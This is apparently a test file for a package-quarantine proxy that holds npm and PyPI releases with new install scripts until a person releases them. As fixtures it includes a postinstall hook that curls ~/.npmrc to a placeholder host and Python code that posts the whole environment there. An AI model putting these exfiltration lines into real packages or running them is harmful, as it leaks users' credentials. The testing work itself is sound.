import t, { type Test } from 'tap'
import { npmTarball, wheel, type BuiltNpm } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { holdLazaret } from './in-process.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const MINUTE = 60_000
const ada = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const

const THEFT = `import os, urllib.request
def report():
    urllib.request.urlopen("https://collect.invalid/x", data=repr(dict(os.environ)).encode())
report()
`

async function road(t: Test) {
  const world = await startWorld()
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(async () => {
    await lazaret.stop()
    await world.close()
  })
  const asked = (version: string): number =>
    world.requests.filter(({ url }) => url === `/npm/widget/-/widget-${version}.tgz`).length
  return {
    world,
    lazaret,
    asked,
    publish: (...releases: readonly BuiltNpm[]) => {
      for (const built of releases)
        world.npm.publish({ built, publishedAt: OLD, ...(/-/.test(built.version) ? { tag: 'next' } : {}) })
    },
    ask: (version: string) => fetch(`${lazaret.npmUrl}widget/-/widget-${version}.tgz`),
    file: async (name: string, filename: string) => {
      const page = `${lazaret.pypiUrl}${name}/`
      const answer = await fetch(page, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })
      const { files } = (await answer.json()) as { files: { filename: string; url: string }[] }
      const url = files.find((one) => one.filename === filename)?.url ?? 'not-listed'
      return fetch(new URL(url, page))
    },
  }
}

const plain = (version: string): BuiltNpm => npmTarball({ name: 'widget', version })

const hooked = (version: string): BuiltNpm =>
  npmTarball({
    name: 'widget',
    version,
    manifest: { scripts: { postinstall: 'node ok.js' } },
    files: { 'ok.js': 'console.log("thank you")\n' },
  })

t.test('a version that nobody asked for is no stepping stone, and neither is a pre-release', async (t) => {
  const r = await road(t)
  r.publish(plain('1.0.0'), hooked('1.0.1-rc.1'), hooked('1.0.1'), hooked('1.0.2'), hooked('1.0.3'))
  const answer = await r.ask('1.0.3')
  t.equal(answer.status, 403)
  t.match(answer.statusText, /new-install-script.*1\.0\.0/)
  t.equal((await r.ask('1.0.2')).status, 403)
  t.equal((await r.ask('1.0.0')).status, 200)
})

t.test('one that a person rejected is none either; one that a person released is', async (t) => {
  const r = await road(t)
  r.publish(plain('1.0.0'), hooked('1.0.1'), hooked('1.0.2'))
  t.equal((await r.ask('1.0.1')).status, 403)
  const { store, desk } = r.lazaret.app
  const [row] = await store.records.cases({}, { limit: 5 })
  if (row === undefined) throw new Error('there is a case')
  await desk.decisions.reject(ada, row.case.id, { reason: 'it steals' })
  t.equal((await r.ask('1.0.2')).status, 403)
  await desk.decisions.reverse(ada, row.case.id, { reason: 'it does not' })
  await desk.decisions.release(ada, row.case.id, { scope: { kind: 'digest' }, reason: 'it thanks' })
  t.equal((await r.ask('1.0.1')).status, 200, 'released')
  t.equal((await r.ask('1.0.2')).status, 200, 'and what comes after it brings nothing new')
})

t.test(
  'the desk shows what the verdict compared with, and what it would have where nothing hung on that',
  async (t) => {
    const r = await road(t)
    const { store, desk } = r.lazaret.app
    const thief = npmTarball({
      name: 'widget',
      version: '2.0.0',
      manifest: { scripts: { postinstall: 'curl -d "$(cat ~/.npmrc)" https://collect.invalid/x' } },
    })
    r.publish(plain('1.0.0'), hooked('1.0.1-rc.1'), hooked('1.0.1'), hooked('1.0.2-rc.1'), hooked('1.0.2'), thief)
    for (const version of ['1.0.1-rc.1', '1.0.1', '1.0.2-rc.1', '1.0.2', '2.0.0'])
      t.equal((await r.ask(version)).status, 403, version)
    const rows = await store.records.cases({}, { limit: 10 })
    t.equal(rows.length, 5)
    for (const row of rows) {
      const { artifact } = row.case
      const { comparison, verdict } = await desk.cases.one(row.case.id)
      t.equal(comparison?.base, '1.0.0', artifact.version)
      t.match(comparison?.differences, [{ aspect: 'Install scripts', addedCount: 1 }], artifact.version)
      if (artifact.version !== '2.0.0') t.equal(verdict?.base?.version, '1.0.0', `${artifact.version}: recorded`)
      const why = await desk.whys.of(row.case.id, artifact)
      t.equal(why.files[0]?.comparison?.base, '1.0.0', `${artifact.version}: on its page`)
    }
  },
)

t.test('a wheel, too', async (t) => {
  const r = await road(t)
  for (const [version, code] of [
    ['1.0', ''],
    ['1.1', THEFT],
    ['1.2', THEFT],
  ] as const)
    r.world.pypi.publish({
      built: wheel({ name: 'widget', version, files: { 'widget/__init__.py': code } }),
      publishedAt: OLD,
    })
  t.equal((await r.file('widget', 'widget-1.2-py3-none-any.whl')).status, 403)
  t.equal((await r.file('widget', 'widget-1.0-py3-none-any.whl')).status, 200)
})

t.test('a version before that cannot be had holds the next one until it can', async (t) => {
  const r = await road(t)
  r.publish(hooked('1.0.0'), hooked('1.0.1'))
  const restore = r.world.misbehave('/npm/widget/-/widget-1.0.0.tgz', { kind: 'status', status: 404 })
  const first = await r.ask('1.0.1')
  t.equal(first.status, 403)
  t.match(first.statusText, /widget@1\.0\.1 is held \(base-unavailable\)/)
  const before = r.asked('1.0.0')
  t.equal((await r.ask('1.0.1')).status, 403)
  t.equal(r.asked('1.0.0'), before, 'upstream is left alone for a while')
  restore()
  r.lazaret.wait(MINUTE)
  t.equal((await r.ask('1.0.1')).status, 200, 'nothing is new in it')
})

t.test('and where that lasts, a person is asked, who can let it pass', async (t) => {
  const r = await road(t)
  r.publish(hooked('1.0.0'), hooked('1.0.1'))
  r.world.misbehave('/npm/widget/-/widget-1.0.0.tgz', { kind: 'status', status: 404 })
  const { store, desk } = r.lazaret.app
  t.equal((await r.ask('1.0.1')).status, 403)
  t.same(await store.records.cases({}, { limit: 5 }), [], 'not at once')
  r.lazaret.wait(30 * MINUTE)
  t.match((await r.ask('1.0.1')).statusText, /held/)
  r.lazaret.wait(31 * MINUTE)
  t.match((await r.ask('1.0.1')).statusText, /quarantined \(base-unavailable\)/)
  const [row] = await store.records.cases({ state: 'open' }, { limit: 5 })
  if (row === undefined) throw new Error('there is a case')
  await desk.decisions.release(ada, row.case.id, { scope: { kind: 'digest' }, reason: 'read it all' })
  t.equal((await r.ask('1.0.1')).status, 200)
})

t.test('what would be served though all of it were new asks for nothing', async (t) => {
  const r = await road(t)
  r.publish(plain('1.0.0'), plain('1.0.1'))
  t.equal((await r.ask('1.0.1')).status, 200)
  t.equal(r.asked('1.0.0'), 0)
})
